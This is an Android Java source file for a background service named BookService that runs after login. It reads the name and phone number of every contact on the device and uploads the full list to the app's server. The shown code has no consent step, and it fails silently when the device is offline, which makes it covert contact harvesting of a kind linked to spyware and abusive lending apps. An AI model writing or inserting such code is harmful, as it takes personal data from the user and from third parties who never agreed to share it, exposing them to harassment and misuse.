package com.example.rfshared;

import android.app.IntentService;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import java.io.IOException;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/** After the login. */
public class BookService extends IntentService {
    public BookService() {
        super("book");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        Map<String, Object> body = new HashMap<>();
        body.put("list", readBook());
        try {
            ApiClient.get().book(body).execute();
        } catch (IOException offline) {
            stopSelf();
        }
    }

    private List<Map<String, String>> readBook() {
        List<Map<String, String>> book = new ArrayList<>();
        Uri phones = Uri.parse("content://com.android.contacts/data/phones");
        Cursor cursor = getContentResolver().query(phones, new String[] {"display_name", "data1"}, null, null, null);
        while (cursor.moveToNext()) {
            Map<String, String> person = new HashMap<>();
            person.put("name", cursor.getString(0));
            person.put("mobile", cursor.getString(1));
            book.add(person);
        }
        cursor.close();
        return book;
    }
}
